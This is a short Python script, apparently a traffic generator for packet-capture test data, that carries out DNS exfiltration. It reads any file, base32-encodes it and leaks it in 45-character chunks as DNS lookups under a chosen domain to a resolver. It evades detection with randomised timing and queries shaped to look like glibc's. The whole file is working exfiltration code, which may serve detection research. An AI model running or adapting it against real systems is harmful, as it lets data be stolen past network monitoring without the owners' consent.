#!/usr/bin/env python3
"""A careful insider's DNS exfiltration, for pcaps/covert.sh (stdlib only).

usage: covert_slow_dns.py FILE RESOLVER DOMAIN
Sends FILE base32-encoded, 45 characters per query, as A lookups of
CHUNK.SEQ.DOMAIN to RESOLVER, one every 0.5-0.9 s, waiting for each answer.
Also imported by covert_benign.py for its query builder.
"""
import base64
import random
import socket
import struct
import sys
import time


def query(name: str, qtype: int = 1, qid: int = 0) -> bytes:
    """A plain recursive query, no EDNS (as glibc sends it)."""
    wire = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".") if l) + b"\0"
    return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + wire + struct.pack("!HH", qtype, 1)


def ask(sock: socket.socket, server: str, name: str, qtype: int = 1) -> None:
    sock.sendto(query(name, qtype, random.getrandbits(16)), (server, 53))
    try:
        sock.recvfrom(4096)
    except socket.timeout:
        pass


def main() -> int:
    path, server, domain = sys.argv[1:4]
    data = base64.b32encode(open(path, "rb").read()).decode().rstrip("=").lower()
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    rng = random.Random(11)
    for seq, i in enumerate(range(0, len(data), 45)):
        ask(s, server, "%s.%x.%s" % (data[i:i + 45], seq, domain))
        time.sleep(0.5 + rng.random() * 0.4)
    return 0


if __name__ == "__main__":
    sys.exit(main())
